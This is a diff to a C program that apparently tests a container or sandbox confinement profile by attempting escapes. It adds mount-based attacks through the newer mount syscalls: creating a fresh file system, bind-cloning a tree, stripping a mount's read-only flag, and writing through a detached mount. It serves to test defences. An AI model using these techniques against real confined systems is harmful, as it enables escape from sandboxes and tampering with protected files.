@@ -4,6 +4,7 @@
  * it does not, and is run on the host or against something open first, to show that it can.
  *
  *	attack tiocsti | shocker [PATH] | key NAME | exe SECONDS | raw DEVICE
+ *	attack newmount FSTYPE:DIR | bind SOURCE:DIR | writable DIR | adrift DIR:FILE
  *	attack with-key NAME COMMAND ...	on the host: run it with a key in its session
  */
 #define _GNU_SOURCE
@@ -14,6 +15,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <sys/mount.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/vfs.h>
@@ -126,16 +128,71 @@ static int raw(const char *path)
 	return open(path, O_RDONLY | O_NONBLOCK) >= 0;
 }
 
+/* What stands in front of the first colon, and *rest behind it. */
+static const char *split(const char *arg, const char **rest)
+{
+	static char first[256];
+
+	*rest = strchr(arg, ':') + 1;
+	snprintf(first, sizeof(first), "%.*s", (int)(*rest - arg - 1), arg);
+	return first;
+}
+
+/* A file system by fsopen and its like, which name no type and no place where a profile could see
+ * both. */
+static int newmount(const char *arg)
+{
+	const char *dir, *type = split(arg, &dir);
+	int fs = (int)syscall(SYS_fsopen, type, 0), mnt;
+
+	if (fs < 0 || syscall(SYS_fsconfig, fs, 6 /* FSCONFIG_CMD_CREATE */, NULL, NULL, 0) < 0)
+		return 0;
+	mnt = (int)syscall(SYS_fsmount, fs, 0, 0);
+	return mnt >= 0 &&
+	       syscall(SYS_move_mount, mnt, "", AT_FDCWD, dir, 4 /* F_EMPTY_PATH */) == 0;
+}
+
+static int bind(const char *arg)
+{
+	const char *dir, *source = split(arg, &dir);
+	int mnt = (int)syscall(SYS_open_tree, AT_FDCWD, source, 1 /* OPEN_TREE_CLONE */);
+
+	return mnt >= 0 && syscall(SYS_move_mount, mnt, "", AT_FDCWD, dir, 4) == 0;
+}
+
+/* Take the read-only flag off a mount. */
+static int writable(const char *dir)
+{
+	unsigned long long attr[4] = { 0, 1 /* MOUNT_ATTR_RDONLY */, 0, 0 };
+
+	return syscall(SYS_mount_setattr, AT_FDCWD, dir, 0, attr, sizeof(attr)) == 0;
+}
+
+/* From a directory that is no longer mounted a file has a name of its own: write what it holds. */
+static int adrift(const char *arg)
+{
+	const char *file, *dir = split(arg, &file);
+	char data[4096] = "h";
+	ssize_t n;
+	int fd;
+
+	if (chdir(dir) < 0 || umount2(dir, MNT_DETACH) < 0)
+		return 0;
+	fd = open(file, O_RDONLY);
+	n = fd < 0 ? 1 : read(fd, data, sizeof(data));
+	fd = open(file, O_WRONLY);
+	n = n > 0 ? n : 1;
+	return fd >= 0 && write(fd, data, (size_t)n) == n;
+}
+
 int main(int argc, char **argv)
 {
 	static const struct {
 		const char *name;
 		int (*run)(const char *arg);
-	} attacks[] = { { "tiocsti", tiocsti },
-			{ "shocker", shocker },
-			{ "key", key },
-			{ "exe", exe },
-			{ "raw", raw } };
+	} attacks[] = { { "tiocsti", tiocsti }, { "shocker", shocker },	  { "key", key },
+			{ "exe", exe },		{ "raw", raw },		  { "newmount", newmount },
+			{ "bind", bind },	{ "writable", writable }, { "adrift", adrift } };
 
 	if (argc > 3 && !strcmp(argv[1], "with-key"))
 		return with_key(argv + 2);
